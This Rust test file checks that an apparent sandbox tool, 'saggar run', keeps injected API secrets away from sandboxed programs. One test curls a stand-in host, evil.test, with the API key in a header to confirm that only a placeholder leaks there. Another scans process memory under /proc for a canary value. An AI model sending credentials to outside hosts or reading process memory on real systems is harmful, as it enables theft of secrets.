//! Secrets of `saggar run`, with real programs against a small internet of our own (tests/network/world.py), whose servers show every
//! request that they get.

mod harness;

use std::io::{BufRead, BufReader, Read as _};
use std::os::unix::fs::{FileExt as _, MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdout, Command, Stdio};

use harness::{Done, Place, feed, finish};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;

const WORLD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/network/world.py");
const CANARY: &str = "canary-5fb0c4de71a9-value";

const SECRETS: &str = r#"
    [canary]
    value = "canary-5fb0c4de71a9-value"
    rules = ["good.test"]
    slot = "bearer"
    placeholder_prefix = "sk-"

    [repository]
    value = "canary-5fb0c4de71a9-value"
    rules = ["api.good.test"]
    slot = { basic = { user = "x-access-token" } }
"#;

/// A secrets file that only we may read.
fn secrets(place: &Place) -> PathBuf {
    let path = place.write("secrets.toml", SECRETS);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).expect("ours");
    path
}

/// `saggar run --net proxied FLAGS -- sh -c SCRIPT` in the world.
fn command(place: &Place, flags: &[&str], script: &str) -> Command {
    let mut command = Command::new("unshare");
    command.args(["--net", "--mount", "python3", WORLD]).arg(place.path("seen.log"));
    command.arg(env!("CARGO_BIN_EXE_saggar")).args(["run", "--net", "proxied"]).args(flags);
    command.args(["--", "/bin/sh", "-c", script]).env("SAGGAR_DATA_DIR", place.path("data"));
    command.env("XDG_CONFIG_HOME", place.path("config")).current_dir(place.path(""));
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

fn start(place: &Place, flags: &[&str], script: &str) -> Child {
    let file = secrets(place);
    let file = file.to_str().expect("ASCII");
    let flags: Vec<&str> = ["--secrets", file].iter().chain(flags).copied().collect();
    command(place, &flags, script).spawn().expect("unshare is part of every Linux")
}

fn run(place: &Place, flags: &[&str], script: &str) -> Done {
    finish(start(place, flags, script))
}

/// Requests that servers saw, as `METHOD PATH AUTHORIZATION`.
fn seen(place: &Place) -> Vec<String> {
    let text = std::fs::read_to_string(place.path("seen.log")).expect("the world writes it");
    let entry = |line: &str| {
        let entry: Value = serde_json::from_str(line).expect("JSON");
        let word = |value: &Value| value.as_str().unwrap_or("-").to_owned();
        format!("{} {} {}", word(&entry["method"]), word(&entry["path"]), word(&entry["headers"]["authorization"]))
    };
    text.lines().map(entry).collect()
}

#[test]
fn the_usual_clients_use_a_secret_that_they_never_see() {
    let place = Place::new();
    let python = "import os, urllib.request as u; r = u.Request('https://good.test/python', headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}); print(u.urlopen(r).read().decode())";
    let node = "fetch('https://good.test/node', {headers: {authorization: 'Bearer ' + process.env.API_KEY}}).then(a => a.text()).then(console.log)";
    let script = format!(
        "env; curl -sS -H \"Authorization: Bearer $API_KEY\" https://good.test/curl; /usr/bin/python3 -c \"{python}\"; \
         if command -v node > /dev/null; then node -e \"{node}\"; else echo there is no node; fi; curl -sS https://good.test/without; \
         curl -sS -u own:credential https://good.test/own; \
         git -c credential.helper= ls-remote https://x:$TOKEN@api.good.test/repository; echo git $?"
    );
    let flags = ["--secret", "API_KEY=canary", "--secret", "TOKEN=repository"];
    let done = run(&place, &[&flags[..], &["--allow", "good.test", "--allow", "api.good.test"]].concat(), &script);
    let seen = seen(&place);
    let has_node = !done.stdout.contains("there is no node");
    if !has_node {
        eprintln!("node is not installed, so this test has not tried it");
    }
    for path in ["/curl", "/python", "/without", "/own"].into_iter().chain(has_node.then_some("/node")) {
        assert!(seen.contains(&format!("GET {path} Bearer {CANARY}")), "{path}: {seen:?} {done:?}");
    }
    let basic = "eC1hY2Nlc3MtdG9rZW46Y2FuYXJ5LTVmYjBjNGRlNzFhOS12YWx1ZQ==";
    let fetched = format!("GET /repository/info/refs?service=git-upload-pack Basic {basic}");
    assert!(seen.contains(&fetched), "{seen:?} {done:?}");
    assert!(done.stdout.contains("git 0"), "{done:?}");
    // Inside there are placeholders and asterisks, and nothing else.
    let variable = |name: &str| {
        let found = done.stdout.lines().find_map(|line| line.strip_prefix(&format!("{name}=")));
        found.unwrap_or_else(|| panic!("{name}: {done:?}")).to_owned()
    };
    let (key, token) = (variable("API_KEY"), variable("TOKEN"));
    assert!(key.starts_with("sk-saggar-") && key.len() == 3 + 7 + 32, "{key}");
    assert!(token.starts_with("saggar-") && token.len() == 7 + 32, "{token}");
    let asterisks = format!("\"authorization\": \"Bearer {}\"", "*".repeat(CANARY.len()));
    assert!(done.stdout.matches(&asterisks).count() >= 4, "{done:?}");
    for output in [&done.stdout, &done.stderr] {
        assert!(!output.contains("5fb0c4de71a9") && !output.contains(&basic[24..40]), "{output}");
    }
}

#[test]
fn other_hosts_plain_http_and_redirects_get_nothing() {
    let place = Place::new();
    let script = "auth=\"Authorization: Bearer $API_KEY\"; curl -sS -o /dev/null -H \"$auth\" https://evil.test/other; \
                  curl -sS -o /dev/null -H \"$auth\" http://good.test/plain; \
                  curl -sS -L -o /dev/null --oauth2-bearer \"$API_KEY\" https://good.test/redirect; echo $API_KEY";
    let events = place.path("events.jsonl");
    let flags = ["--secret", "API_KEY=canary", "--allow", "good.test", "--allow", "evil.test/**", "--events"];
    let done = run(&place, &[&flags[..], &[events.to_str().expect("ASCII")]].concat(), script);
    let key = done.stdout.trim_end();
    let expected = [
        format!("GET /other Bearer {key}"),
        format!("GET /plain Bearer {key}"),
        format!("GET /redirect Bearer {CANARY}"),
        "GET /from-redirect -".to_owned(),
    ];
    assert_eq!(seen(&place), expected, "{done:?}");
    // The records name the secret where it was used, and tell of a placeholder that went astray.
    let log = std::fs::read_to_string(&events).expect("events");
    let decisions = log.lines().map(|line| serde_json::from_str(line).expect("JSON"));
    let told: Vec<(String, Value, bool)> = decisions
        .filter(|event: &Value| event["type"] == "decision")
        .map(|event: Value| {
            let is_astray = event["reason"].as_str().is_some_and(|reason| reason.contains("placeholder of the secret"));
            (event["path"].as_str().unwrap_or_default().to_owned(), event["secrets"].clone(), is_astray)
        })
        .collect();
    let expected = [
        ("/other", None, true),
        ("/plain", None, true),
        ("/redirect", Some("canary"), false),
        ("/from-redirect", None, false),
    ]
    .map(|(path, secret, is_astray)| {
        (path.to_owned(), secret.map_or(Value::Null, |name| serde_json::json!([name])), is_astray)
    });
    assert_eq!(told, expected, "{log}");
    assert!(!log.contains("5fb0c4de71a9"));
}

/// All processes below one, and that one.
fn descendants(root: i32) -> Vec<i32> {
    let mut found = Vec::new();
    let mut waiting = vec![root];
    while let Some(pid) = waiting.pop() {
        found.push(pid);
        for task in std::fs::read_dir(format!("/proc/{pid}/task")).into_iter().flatten().flatten() {
            let children = std::fs::read_to_string(task.path().join("children")).unwrap_or_default();
            waiting.extend(children.split_whitespace().map(|child| child.parse::<i32>().expect("a number")));
        }
    }
    found
}

fn words(pid: i32) -> Vec<String> {
    let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    line.split(|byte| *byte == 0).map(|word| String::from_utf8_lossy(word).into_owned()).collect()
}

fn holds(bytes: &[u8]) -> bool {
    bytes.windows(CANARY.len()).any(|part| part == CANARY.as_bytes())
}

/// Whether the value is in the memory, the environment or the command line of a process.
fn is_in(pid: i32) -> bool {
    let about = |name: &str| std::fs::read(format!("/proc/{pid}/{name}")).unwrap_or_default();
    if holds(&about("environ")) || holds(&about("cmdline")) {
        return true;
    }
    let memory = std::fs::File::open(format!("/proc/{pid}/mem")).expect("a process of ours");
    let maps = String::from_utf8(about("maps")).expect("ASCII");
    assert!(!maps.is_empty(), "{pid} is gone");
    maps.lines().filter(|line| line.split(' ').nth(1).is_some_and(|rights| rights.starts_with('r'))).any(|line| {
        let (first, last) = line.split(' ').next().and_then(|range| range.split_once('-')).expect("a range");
        let address = |text| u64::from_str_radix(text, 16).expect("hexadecimal");
        let mut bytes = vec![0; usize::try_from(address(last) - address(first)).expect("fits")];
        // Some of the kernel's own pages can't be read.
        memory.read_at(&mut bytes, address(first)).is_ok() && holds(&bytes)
    })
}

/// Every file below a directory.
fn files(directory: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => found.extend(files(&entry.path())),
            Ok(kind) if kind.is_file() => found.push(entry.path()),
            _ => {}
        }
    }
    found
}

fn wait_ready(child: &mut Child) -> BufReader<ChildStdout> {
    let mut output = BufReader::new(child.stdout.take().expect("a pipe"));
    let mut line = String::new();
    while line != "ready\n" {
        line.clear();
        assert_ne!(output.read_line(&mut line).expect("a pipe"), 0, "it ended");
        assert!(!line.contains(CANARY), "{line}");
    }
    output
}

/// The `saggar run` of a world, and its egress process.
fn processes(world: &Child) -> (i32, i32) {
    let all = descendants(world.id() as i32);
    let find = |word: &str| {
        let is = |pid: &&i32| words(**pid).get(1).is_some_and(|first| first == word);
        *all.iter().find(is).unwrap_or_else(|| panic!("no process {word}"))
    };
    (find("run"), find("__egress"))
}

#[test]
fn the_value_is_in_the_egress_process_and_nowhere_else() {
    let place = Place::new();
    let events = place.path("events.jsonl");
    let script = "curl -sS -H \"Authorization: Bearer $API_KEY\" https://good.test/curl; echo; sleep 1000 & echo ready; read line; kill $!";
    let flags = ["--secret", "API_KEY=canary", "--allow", "good.test", "--events", events.to_str().expect("ASCII")];
    let mut child = start(&place, &flags, script);
    let mut output = wait_ready(&mut child);
    let (runner, egress) = processes(&child);
    assert!(is_in(egress), "otherwise the search finds nothing at all");
    let others: Vec<i32> = descendants(runner).into_iter().filter(|pid| *pid != egress).collect();
    assert!(others.len() >= 4, "the runner, the agent, the shell and a program: {others:?}");
    for pid in &others {
        assert!(!is_in(*pid), "{pid} {:?}", words(*pid));
    }
    // Nor does the process keep the file open, or leave a core file: it can't be dumped.
    for entry in std::fs::read_dir(format!("/proc/{egress}/fd")).expect("it runs").flatten() {
        let target = std::fs::read_link(entry.path()).expect("ours");
        assert!(!target.ends_with("secrets.toml") && !target.to_string_lossy().contains("memfd"), "{target:?}");
    }
    let status = std::fs::read_to_string(format!("/proc/{egress}/status")).expect("it runs");
    assert!(!status.contains("Uid:\t0\t"), "{status}");
    let owner = std::fs::metadata(format!("/proc/{egress}/environ")).expect("it runs").uid();
    assert_eq!(owner, 0, "the kernel gives the files of a process that can't be dumped to root");
    feed(&mut child, b"go\n");
    let mut rest = String::new();
    output.read_to_string(&mut rest).expect("text");
    let done = finish(child);
    assert_eq!(done.code, 0, "{done:?}");
    let ours = files(&place.path("data")).into_iter().chain([events]);
    for file in ours {
        assert!(!holds(&std::fs::read(&file).expect("ours")), "{file:?}");
    }
    assert!(!rest.contains(CANARY) && !done.stderr.contains(CANARY));
}

#[test]
fn a_new_egress_process_has_the_same_secrets() {
    let place = Place::new();
    let fetch = "curl -sS -m 5 --retry 30 --retry-all-errors --retry-delay 1 -o /dev/null";
    let script = format!("echo $API_KEY; echo ready; read line; {fetch} https://good.test/again; echo $API_KEY");
    let mut child = start(&place, &["--secret", "API_KEY=canary", "--allow", "good.test"], &script);
    let mut output = wait_ready(&mut child);
    let (_, egress) = processes(&child);
    kill_process(Pid::from_raw(egress).expect("not zero"), Signal::KILL).expect("ours");
    feed(&mut child, b"go\n");
    let mut rest = String::new();
    output.read_to_string(&mut rest).expect("text");
    let done = finish(child);
    assert_eq!(seen(&place), [format!("GET /again Bearer {CANARY}")], "{rest} {done:?}");
    assert!(rest.starts_with("sk-saggar-") && !rest.contains(CANARY), "{rest} {done:?}");
}

#[test]
fn a_secret_is_found_in_the_default_file_and_in_the_keyring() {
    let place = Place::new();
    let name = format!("kept-{}", std::process::id());
    let key = format!("value = '{CANARY}-of-the-keyring'\nrules = ['good.test']\nslot.header = {{ name = 'x-kept' }}");
    let keyring = |verb: &str| {
        let code = format!(
            "import ctypes, sys\nc = ctypes.CDLL(None)\nring = ctypes.c_int(-4)\nname, key = sys.argv[1].encode(), sys.argv[2].encode()\n\
             id = c.syscall(248, b'user', name, key, len(key), ring)\nassert id > 0\nif '{verb}' == 'remove': assert c.syscall(250, 9, id, ring) == 0"
        );
        let done = Command::new("python3").args(["-c", &code, &format!("saggar:{name}"), &key]).status();
        assert!(done.expect("python3").success());
    };
    let default = place.write("config/saggar/secrets.toml", SECRETS);
    std::fs::set_permissions(&default, std::fs::Permissions::from_mode(0o600)).expect("ours");
    keyring("add");
    let uses = format!("KEPT={name}");
    let flags = ["--secret", "canary", "--secret", &uses, "--allow", "good.test"];
    let done = finish(command(&place, &flags, "echo $KEPT; curl -sS https://good.test/both").spawn().expect("unshare"));
    keyring("remove");
    assert_eq!(done.code, 0, "{done:?}");
    assert!(done.stdout.starts_with("saggar-") && !done.stdout.contains("canary-"), "{done:?}");
    let log = std::fs::read_to_string(place.path("seen.log")).expect("the world writes it");
    assert!(log.contains(&format!("\"x-kept\": \"{CANARY}-of-the-keyring\"")), "{log}");
    assert!(log.contains(&format!("\"authorization\": \"Bearer {CANARY}\"")), "{log}");
}

#[test]
fn secrets_that_cannot_be_used_safely_are_refused() {
    let place = Place::new();
    let file = secrets(&place);
    let open = place.write("open.toml", SECRETS);
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o640)).expect("ours");
    let inside = place.write("workspace/secrets.toml", SECRETS);
    std::fs::set_permissions(&inside, std::fs::Permissions::from_mode(0o600)).expect("ours");
    let broken = place.write("broken.toml", &format!("[canary]\nvalue = {CANARY}\n"));
    std::fs::set_permissions(&broken, std::fs::Permissions::from_mode(0o600)).expect("ours");
    let linked = place.write("linked.toml", SECRETS);
    std::fs::set_permissions(&linked, std::fs::Permissions::from_mode(0o600)).expect("ours");
    std::fs::hard_link(&linked, place.path("workspace/other-name")).expect("ours");
    let misplaced = format!("API_KEY={CANARY}=");
    let text = |path: &Path| path.to_str().expect("ASCII").to_owned();
    let linked = text(&linked);
    let (file, open, inside, broken) = (text(&file), text(&open), text(&inside), text(&broken));
    let workspace = text(&place.workspace());
    let mount = format!("{}:/home/user/all", place.path("").display());
    let proxied = ["--net", "proxied"];
    for (flags, expected) in [
        (vec!["--secret", "canary", "--secrets", &file], "its network mode is none"),
        ([&proxied[..], &["--secret", "canary", "--secrets", &open]].concat(), "can be read by other users"),
        (
            [&proxied[..], &["--secret", "canary", "--secrets", &inside, "-w", &workspace]].concat(),
            "that the sandbox sees",
        ),
        ([&proxied[..], &["--secret", "canary", "--secrets", &file, "-v", &mount]].concat(), "that the sandbox sees"),
        ([&proxied[..], &["--secret", "canary", "--secrets", "absent.toml"]].concat(), "does not exist"),
        ([&proxied[..], &["--secret", "canary"]].concat(), "neither in a secrets file nor in the keyring"),
        ([&proxied[..], &["--secret", "gitlab", "--secrets", &file]].concat(), "there is no secret gitlab"),
        ([&proxied[..], &["--secret", "canary", "--secrets", &broken]].concat(), "line 2 can't be understood"),
        ([&proxied[..], &["--secret", "A=canary", "-e", "A=1", "--secrets", &file]].concat(), "the variable A"),
        ([&proxied[..], &["--secret", "A-B=canary", "--secrets", &file]].concat(), "not the name of a variable"),
        // A value in the wrong place.
        ([&proxied[..], &["--secret", &misplaced, "--secrets", &file]].concat(), "it may be a secret"),
        ([&proxied[..], &["--secret", "LD_PRELOAD=canary", "--secrets", &file]].concat(), "the variable LD_PRELOAD"),
        // The sandbox could see it by its other name.
        ([&proxied[..], &["--secret", "canary", "--secrets", &linked]].concat(), "has several names"),
    ] {
        let arguments = ["run"].iter().chain(&flags).chain(&["--", "true"]).copied();
        let done = finish(place.command(arguments).env("HOME", place.path("home")).spawn().expect("built"));
        assert!(matches!(done.code, 125 | 126), "{flags:?}: {done:?}");
        assert!(done.stderr.contains(expected), "{flags:?}: {done:?}");
        assert!(!done.stderr.contains("5fb0c4de71a9"), "{done:?}");
    }
}

#[test]
fn a_spec_names_secrets_as_flags_do() {
    let place = Place::new();
    let spec = place.write(
        "sandbox.toml",
        "network = 'proxied'\negress.allow = ['good.test']\nsecrets = [{ name = 'canary', env = 'API_KEY' }]\n",
    );
    let file = secrets(&place);
    let flags = ["--spec", spec.to_str().expect("ASCII"), "--secrets", file.to_str().expect("ASCII")];
    let mut command = Command::new("unshare");
    command.args(["--net", "--mount", "python3", WORLD]).arg(place.path("seen.log"));
    command.arg(env!("CARGO_BIN_EXE_saggar")).arg("run").args(flags).args(["--", "/bin/sh", "-c"]);
    command
        .arg("curl -sS -o /dev/null https://good.test/spec; echo $API_KEY")
        .env("SAGGAR_DATA_DIR", place.path("data"));
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let done = finish(command.spawn().expect("unshare"));
    assert_eq!(seen(&place), [format!("GET /spec Bearer {CANARY}")], "{done:?}");
    assert!(done.stdout.starts_with("sk-saggar-"), "{done:?}");
}
